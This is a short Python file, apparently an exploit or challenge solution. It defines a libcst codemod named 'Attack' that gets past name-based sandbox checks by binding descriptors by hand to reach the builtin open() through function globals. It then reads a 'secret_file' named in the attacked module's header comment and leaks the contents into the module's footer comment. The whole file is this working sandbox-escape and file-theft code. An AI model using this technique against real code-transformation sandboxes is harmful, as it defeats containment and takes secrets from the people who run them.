"""Bind descriptors by hand, so that no attribute with a telling name is read from what is attacked."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def read(path):
    code = cst.Module.__dict__["code"]
    getter = type(code).fget.__get__(code)
    globals_ = type(getter).__dict__["__globals__"].__get__(getter)
    return globals_["__builtins__"]["open"](path).read().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by descriptors."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
